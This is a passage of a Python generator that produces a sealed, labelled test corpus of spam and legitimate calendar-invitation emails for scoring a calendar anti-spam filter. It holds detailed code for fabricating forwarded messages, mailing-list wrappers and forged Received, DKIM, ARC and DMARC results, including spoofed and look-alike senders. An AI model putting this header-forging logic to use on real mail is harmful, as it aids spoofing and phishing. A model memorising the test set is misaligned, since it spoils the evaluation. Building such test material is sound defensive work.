    e, m = ctx.e, ctx.m
    s = m.events[0].summary if m.events else ''
    s = s.replace('\t', ' ').replace('\n', ' ')
    if len(s) > 60:
        s = s[:57] + '...'
    who = {'freemail': 'free-mail account', 'corp': 'own domain', 'compromised': 'compromised business mailbox',
           'lookalike': 'look-alike/new domain', 'spoof': 'spoofed From', 'vps': 'VPS sender'}.get(m.kind, m.kind)
    return '%s via %s (%s, %s): %s' % (ctx.cat, m.client, ctx.lang, who, s)


# ---------------------------------------------------------------- rendering and wrappers

def hdr_value(H, name):
    for h in H:
        if not isinstance(h, str) and h[0].lower() == name.lower():
            return h[1]
    return None


def set_hdr(H, name, value, after=None):
    for i, h in enumerate(H):
        if not isinstance(h, str) and h[0].lower() == name.lower():
            H[i] = (h[0], value)
            return
    if after:
        for i, h in enumerate(H):
            if not isinstance(h, str) and h[0].lower() == after.lower():
                H.insert(i + 1, (name, value))
                return
    H.append((name, value))


def gmail_forward(m, rng, ev):
    """Gmail 'Forward' of a Google Calendar invitation: plain/html + original invite.ics."""
    w = m.wrap_fwd
    gm = Msg(**dict(m.__dict__))
    gm.client = 'google'
    gm.sender = w['orig']
    gm.rcpt = (m.sender[0], m.sender[1])
    gm.to = [gm.rcpt]
    gm.subject = None
    from clients import google_plain, subject_for, ICS, rfcdate
    orig_subj = subject_for(gm, 'google')
    ics = ICS['google'](gm, rng)
    fwd_hdr = ('---------- Forwarded message ---------\nFrom: Google Calendar <calendar-notification@google.com>\nDate: %s\n'
               'Subject: %s\nTo: <%s>\n\n' % (rfcdate(m.sent - dt.timedelta(days=rng.randint(1, 4)), 0), orig_subj, m.sender[1]))
    body = (w['note'] + '\n\n' + fwd_hdr + google_plain(gm, ev))
    bnd1 = '000000000000' + rhex(rng, 14)
    bnd2 = '000000000000' + rhex(rng, 14)
    alt = multi('alternative', bnd2, [leaf('text/plain; charset="UTF-8"', body, 'utf-8', 'quoted-printable'),
                                      leaf('text/html; charset="UTF-8"', '<div dir="ltr">%s</div>\n' % layout.text_to_html(body, 'br'), 'utf-8', 'quoted-printable')])
    att = leaf('application/ics; name="invite.ics"', ics, 'utf-8', 'base64',
               extra=[('Content-Disposition', 'attachment; filename="invite.ics"'), ('X-Attachment-Id', 'f_%s' % ralnum(rng, 9)),
                      ('Content-ID', '<f_%s>' % ralnum(rng, 9))])
    root = multi('mixed', bnd1, [alt, att])
    subj = {'de': 'WG: ', 'fr': 'TR : ', 'es': 'Fwd: ', 'pt': 'Fwd: '}.get(m.lang, 'Fwd: ') + orig_subj
    fr = m.sender
    H = [('MIME-Version', '1.0'), ('References', '<calendar-%s@google.com>' % ruuid(rng)),
         ('In-Reply-To', '<calendar-%s@google.com>' % ruuid(rng)), ('From', layout.hdr_addr(m, fr[0], fr[1])),
         ('Date', rfcdate(m.sent, layout.local_off(m))), ('Message-ID', '<CA%s@mail.gmail.com>' % rb64(rng, 52).replace('/', '_').replace('+', '-')),
         ('Subject', layout.hdr_text(m, subj, 'B', 'UTF-8')), ('To', layout.to_list(m)),
         ('Content-Type', 'multipart/mixed; boundary="%s"' % bnd1)]
    return H, root


def rfc822_forward(m, rng, ev):
    w = m.wrap_fwd
    inner = Msg(**dict(m.__dict__))
    inner.client = w['inner_client']
    inner.sender = w['orig']
    inner.rcpt = (m.sender[0], m.sender[1])
    inner.to = [inner.rcpt]
    inner.wrap_fwd = None
    inner.subject = None
    inner.sent = m.sent - dt.timedelta(days=rng.randint(1, 5), minutes=rng.randint(1, 500))
    ev.uid = uid_for(rng, inner.client, w['orig'][1].split('@')[1])
    if inner.client in ('icloud',):
        inner.charset = 'utf-8'
    IH, iroot = layout.LAYOUT[inner.client](inner, rng)
    inner_bytes = render_headers(IH) + b'\r\n' + iroot.render_body()
    from clients import subject_for
    isubj = subject_for(inner, inner.client)
    note = w['note'] + '\n'
    lab = layout.pick_charset(m, note)
    txt = leaf('text/plain; charset=%s; format=flowed' % lab, note, lab, layout.text_cte(m, note, lab, '7bit', '8bit'))
    att = Part([('Content-Type', 'message/rfc822; name="%s.eml"' % isubj.replace('"', '')[:40].encode('ascii', 'replace').decode()),
                ('Content-Disposition', 'attachment; filename="%s.eml"' % isubj.replace('"', '')[:40].encode('ascii', 'replace').decode())],
               inner_bytes)
    bnd = '------------' + ralnum(rng, 24, string.ascii_letters + string.digits)
    root = multi('mixed', bnd, [txt, att])
    fr = m.sender
    H = [('Message-ID', '<%s@%s>' % (ruuid(rng), fr[1].split('@')[1])), ('Date', layout.rfcdate(m.sent, layout.local_off(m))),
         ('MIME-Version', '1.0'), ('User-Agent', 'Mozilla Thunderbird') if m.client == 'thunderbird' else ('X-Mailer', {
             'applemail': 'Apple Mail (2.3774.500.171.1.1)', 'zimbra': 'Zimbra 8.8.15_GA_4581 (ZimbraWebClient - FF115 (Linux)/8.8.15_GA_4581)',
             'sogo': 'SOGoMail 5.10.0', 'nextcloud': 'Nextcloud Mail', 'yahoo': 'WebService/1.1.22077 YMailNorrin',
             'icloud': 'iCloud MailClient', 'zoom': 'Zoom Mail', 'app': 'Roundcube Webmail/1.6.5'}.get(m.client, 'Mailer')),
         ('Content-Language', layout.LANGTAG.get(m.lang, 'en-US')),
         ('To', layout.to_list(m, 'Q')), ('From', layout.hdr_addr(m, fr[0], fr[1], 'Q')),
         ('Subject', layout.hdr_text(m, 'Fwd: ' + isubj, 'Q', 'UTF-8')),
         ('Content-Type', 'multipart/mixed; boundary="%s"' % bnd)]
    if m.client in ('icloud', 'yahoo', 'zoom', 'nextcloud', 'zimbra', 'sogo', 'app'):
        m.client_transport_hint = 'mailbox'
    return H, root


def render_headers(H):
    out = []
    for h in H:
        if isinstance(h, str):
            out.append(h)
        else:
            out.append(fold_header(h[0], h[1]))
    return ('\r\n'.join(out) + '\r\n').encode('ascii')


def apply_list(m, rng, H, root, T, recv):
    w = m.wrap_list
    lhost, lname, ldom, laddr = w['host'], w['name'], w['dom'], w['addr']
    subj = hdr_value(H, 'Subject') or ''
    set_hdr(H, 'Subject', '[%s] %s' % (lname, subj))
    orig_from = hdr_value(H, 'From')
    if w['rewrite']:
        nm = m.sender[0]
        via = '%s via %s' % (nm, lname)
        set_hdr(H, 'From', layout.hdr_addr(m, via, laddr))
        set_hdr(H, 'Reply-To', orig_from if not hdr_value(H, 'Reply-To') else hdr_value(H, 'Reply-To'), after='From')
        H.append(('X-Original-From', orig_from))
    ver = {'mm2': '2.1.39', 'mm3': '3.3.%d' % rng.randint(3, 9), 'sympa': '6.2.%d' % rng.randint(40, 72)}[w['mm']]
    lh = [('List-Id', '"%s" <%s.%s>' % (lname.capitalize() + ' list', lname, lhost)),
          ('List-Unsubscribe', '<https://%s/mailman/options/%s>, <mailto:%s-leave@%s>' % (lhost, lname, lname, lhost)),
          ('List-Archive', '<https://%s/archives/list/%s@%s/>' % (lhost, lname, lhost)),
          ('List-Post', '<mailto:%s>' % laddr), ('List-Help', '<mailto:%s-request@%s?subject=help>' % (lname, lhost)),
          ('List-Subscribe', '<mailto:%s-join@%s>' % (lname, lhost)), ('Precedence', 'list')]
    if w['mm'] == 'mm2':
        lh += [('X-BeenThere', laddr), ('X-Mailman-Version', ver), ('Errors-To', '%s-bounces@%s' % (lname, lhost)),
               ('Sender', '"%s" <%s-bounces@%s>' % (lname.capitalize(), lname, lhost))]
    elif w['mm'] == 'mm3':
        lh += [('X-Mailman-Version', ver), ('Message-ID-Hash', ralnum(rng, 32, string.ascii_uppercase + '234567')),
               ('X-Message-ID-Hash', ralnum(rng, 32, string.ascii_uppercase + '234567')),
               ('X-MailFrom', m.sender[1]), ('X-Mailman-Rule-Misses', 'dmarc-mitigation; no-senders; approved; emergency; loop; banned-address; member-moderation')]
    else:
        lh += [('X-Sympa-To', laddr), ('X-Loop', laddr), ('X-Sequence', str(rng.randint(100, 9000)))]
    H.extend(lh)
    # footer part (Mailman/Sympa wrap into multipart/mixed)
    ct = hdr_value(H, 'Content-Type')
    cte = hdr_value(H, 'Content-Transfer-Encoding')
    old = root
    old.headers = [('Content-Type', ct)] + ([('Content-Transfer-Encoding', cte)] if cte else [])
    H[:] = [h for h in H if isinstance(h, str) or h[0].lower() not in ('content-type', 'content-transfer-encoding')]
    footer = '_______________________________________________\n%s mailing list -- %s\nTo unsubscribe send an email to %s-leave@%s\n' % (
        lname, laddr, lname, lhost)
    bnd = '===============%019d==' % rng.randint(10 ** 17, 10 ** 19 - 1)
    newroot = multi('mixed', bnd, [old, leaf('text/plain; charset="us-ascii"', footer, 'us-ascii', '7bit',
                                             extra=[('Content-Disposition', 'inline')])])
    H.append(('Content-Type', newroot.headers[0][1]))
    # transport: list server delivered to MX; original DKIM broken
    t2 = transport.T()
    t2.env = '%s-bounces+%s=%s@%s' % (lname, m.rcpt[1].split('@')[0], m.rcpt[1].split('@')[1], lhost)
    t2.helo = t2.rdns = lhost
    t2.ip = transport.ip4(rng)
    orig_helo = T.helo
    t2.pre = ['Received: from %s (%s [%s])\r\n\tby %s (Postfix) with ESMTPS id %s\r\n\tfor <%s>; %s'
              % (orig_helo, T.rdns, T.ip, lhost, transport.qid(rng, recv.year), laddr, layout.rfcdate(recv - dt.timedelta(seconds=rng.randint(3, 60)), 0, 'UTC'))]
    t2.pre += T.pre
    t2.dkim = [(d, s, 'fail', bt) for d, s, r, bt in T.dkim]
    if rng.random() < 0.5:
        transport.sign(t2, rng, ldom, 'lists', recv)
        t2.pre.insert(0, t2.pre.pop())
        t2.dkim = [t2.dkim[-1]] + t2.dkim[:-1]
    t2.spf = ('pass', t2.env)
    fdom = laddr.split('@')[1] if w['rewrite'] else m.sender[1].split('@')[1]
    pol = transport.dmarc_policy(fdom)
    if w['rewrite']:
        t2.dmarc = ('pass' if any(r == 'pass' and fdom.endswith(d) for d, s, r, bt in t2.dkim) or True else 'fail', fdom, pol or ('NONE', 'NONE'))
    else:
        t2.dmarc = ('none', fdom, None) if pol is None else ('fail', fdom, pol)
    t2.pre.insert(0, 'ARC-Seal: i=1; a=rsa-sha256; t=%d; cv=none; d=%s; s=arc;\r\n\tb=%s' % (int(recv.timestamp()), ldom, rb64(rng, 64)))
    return H, newroot, t2


def render(m, rng):
    ev = m.events[0]
    if m.wrap_fwd and m.wrap_fwd.get('style') == 'gmail':
        H, root = gmail_forward(m, rng, ev)
    elif m.wrap_fwd and m.wrap_fwd.get('style') == 'rfc822':
        H, root = rfc822_forward(m, rng, ev)
    else:
        if m.client == 'app' and not hasattr(m, 'appcfg'):
            app_cfg(rng, m, 'script', dom=m.sender[1].split('@')[1])
        H, root = layout.LAYOUT[m.client](m, rng)
    if m.reply_to and not hdr_value(H, 'Reply-To'):
        set_hdr(H, 'Reply-To', layout.hdr_addr(m, m.reply_to[0], m.reply_to[1]), after='From')
    if 'undisclosed' in m.quirks:
        set_hdr(H, 'To', 'undisclosed-recipients:;')
    delay = rng.randint(1, 25) if m.label == 'ham' else rng.randint(1, 400)
    recv = m.sent + dt.timedelta(seconds=delay)
    tclient = m.client
    if getattr(m, 'client_transport_hint', None) == 'mailbox':
        m.client = 'mailbox'
    T = transport.build(m, rng, recv)
    m.client = tclient
    if m.wrap_list:
        H, root, T = apply_list(m, rng, H, root, T, recv)
    top = transport.top_headers(m, T, rng, recv)
    head = '\r\n'.join(top + T.pre) + '\r\n'
    data = head.encode('ascii') + render_headers(H) + b'\r\n' + root.render_body()
    return data


# ---------------------------------------------------------------- main

def main():
    out = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else os.path.join(HERE, 'out')
    rng = random.Random(SEED)
    slots = plan()
    rows = []
    stats = {'spam': {}, 'ham': {}}
    clients = {'spam': {}, 'ham': {}}
    langs = {'spam': {}, 'ham': {}}
    for side in ('spam', 'ham'):
        assign = assign_clients(rng, side, slots[side])
        counters = {}
        order = sorted(range(len(slots[side])), key=lambda i: (slots[side][i][0], slots[side][i][1]))
        for i in order:
            cat, lang, e = slots[side][i]
            client = assign[i]
            mr = random.Random('%d-%s-%d' % (SEED, side, i))
            m, ctx = build_msg(mr, side, cat, lang, e, client, i)
            data = render(m, mr)
            counters[cat] = counters.get(cat, 0) + 1
            rel = '%s/%s/%03d.eml' % (side, cat, counters[cat])
            path = os.path.join(out, rel)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, 'wb') as f:
                f.write(data)
            rows.append((rel, side, cat, m.desc.replace('\t', ' ')))
            stats[side][cat] = stats[side].get(cat, 0) + 1
            clients[side][client] = clients[side].get(client, 0) + 1
            langs[side][lang] = langs[side].get(lang, 0) + 1
    with open(os.path.join(out, 'labels.tsv'), 'w', encoding='utf-8', newline='\n') as f:
        f.write('path\tlabel\tcategory\tdescription\n')
        for r in rows:
            f.write('\t'.join(r) + '\n')
    write_readme(out, stats, clients, langs)
    print('wrote %d messages to %s' % (len(rows), out))


LANG_NAMES = {'en': 'English', 'de': 'German', 'fr': 'French', 'es': 'Spanish', 'pt': 'Portuguese', 'it': 'Italian', 'nl': 'Dutch',
              'pl': 'Polish', 'tr': 'Turkish', 'ru': 'Russian', 'el': 'Greek', 'ar': 'Arabic', 'he': 'Hebrew',
              'zh': 'Chinese (Simplified)', 'zt': 'Chinese (Traditional)', 'ja': 'Japanese', 'ko': 'Korean', 'hi': 'Hindi', 'th': 'Thai'}
CLIENT_NAMES = {'google': 'Google Calendar (calendar-notification@google.com)', 'exchange': 'Microsoft Exchange / Outlook on the web',
                'teams': 'Exchange Online with Microsoft Teams meeting', 'outlook': 'Outlook desktop over SMTP (X-MS-OLK-*, X-ALT-DESC)',
                'icloud': 'iCloud calendar server (noreply@email.apple.com)', 'applemail': 'Apple Calendar.app/iOS via Mail',
                'thunderbird': 'Thunderbird/Lightning', 'zoom': 'Zoom (no-reply@zoom.us)', 'nextcloud': 'Nextcloud (Sabre iMIP)',
                'zimbra': 'Zimbra', 'yahoo': 'Yahoo Mail/Calendar', 'sogo': 'SOGo',
                'app': 'booking systems, SaaS schedulers, web scripts and bulk tools (odd PRODIDs, ESPs)'}


def write_readme(out, stats, clients, langs):
    L = ['# holdout28 - labelled calendar-invitation exam corpus', '',
         'A sealed test corpus of %d RFC 5322 messages (%d spam, %d ham) that carry iCalendar objects '
         '(text/calendar parts, .ics attachments, or forwarded message/rfc822 invitations). It is meant to be run once '
         'against a calendar anti-spam filter to measure how it does on mail it has never seen.'
         % (sum(stats['spam'].values()) + sum(stats['ham'].values()), sum(stats['spam'].values()), sum(stats['ham'].values())), '',
         'Every message starts with the headers that the receiving MX `mx.example.net` (Postfix) writes: Return-Path, '
         'Delivered-To, Authentication-Results (dkim/spf/dmarc as that MX evaluated them) and its Received line, followed '
         'by the sending side\'s Received/DKIM-Signature headers and the client\'s own headers. Only documentation IP '
         'ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32) are used. Organisations and most domains are '
         'invented; big mail/calendar services (google.com, gmail.com, outlook.com, icloud.com, yahoo.com, zoom.us and some '
         'regional free-mail providers) appear under their real names because the real clients and accounts are part of '
         'the picture. Brand names appear in texts and in invented look-alike domains.', '',
         '`labels.tsv` lists every file once: `path<TAB>label<TAB>category<TAB>description` (path relative to this directory).', '',
         '## Spam categories', '', '| category | count | what |', '|---|---:|---|']
    for c in SPAM_TARGET:
        L.append('| %s | %d | %s |' % (c, stats['spam'].get(c, 0), CAT_DESC[c]))
    L += ['| **total** | **%d** | |' % sum(stats['spam'].values()), '', '## Ham categories', '', '| category | count | what |', '|---|---:|---|']
    for c in HAM_TARGET:
        L.append('| %s | %d | %s |' % (c, stats['ham'].get(c, 0), CAT_DESC[c]))
    L += ['| **total** | **%d** | |' % sum(stats['ham'].values()), '', '## Languages', '', '| language | spam | ham |', '|---|---:|---:|']
    for lg in ['en', 'de', 'fr', 'es', 'pt', 'it', 'nl', 'pl', 'tr', 'ru', 'el', 'ar', 'he', 'zh', 'zt', 'ja', 'ko', 'hi', 'th']:
        L.append('| %s | %d | %d |' % (LANG_NAMES[lg], langs['spam'].get(lg, 0), langs['ham'].get(lg, 0)))
    L += ['', 'Charsets include UTF-8, US-ASCII, ISO-8859-1/2/6/7/8/9/15, Windows-1250/1251/1252/1253/1254/1255/1256, KOI8-R, '
          'ISO-2022-JP, Shift_JIS, GB2312/GBK/GB18030, Big5, EUC-KR/ks_c_5601-1987, TIS-620/windows-874; transfer encodings '
          '7bit, 8bit, quoted-printable and base64.', '',
          '## Sending clients', '', 'Both labels are spread over the same clients with identical per-client counts, '
          'so the client alone says nothing about the label.', '', '| client | spam | ham |', '|---|---:|---:|']
    for c in CLIENT_QUOTA:
        L.append('| %s | %d | %d |' % (CLIENT_NAMES[c], clients['spam'].get(c, 0), clients['ham'].get(c, 0)))
    L += ['', 'Forwarded invitations and mailing-list copies are additionally wrapped (Outlook-style "FW:" keeping the original organizer, '
          '"Fwd:" with message/rfc822 attachments; Mailman 2/3 and Sympa with subject tags, footers and broken original DKIM).', '',
          '## Licence', '', 'CC0 1.0 Universal. Everything in this corpus was written or generated for it by gen.py; no '
          'message was copied from anywhere. To the extent possible under law, the authors waive all copyright and related '
          'rights (https://creativecommons.org/publicdomain/zero/1.0/).', '',
          '## Provenance', '', 'Generated by gen.py (deterministic, fixed seed %d, Python 3 standard library only). '
          'Run `python3 gen.py [outdir]` to regenerate and `python3 check.py [outdir]` to verify.' % SEED, '']
    with open(os.path.join(out, 'README.md'), 'w', encoding='utf-8', newline='\n') as f:
        f.write('\n'.join(L))


if __name__ == '__main__':
    main()
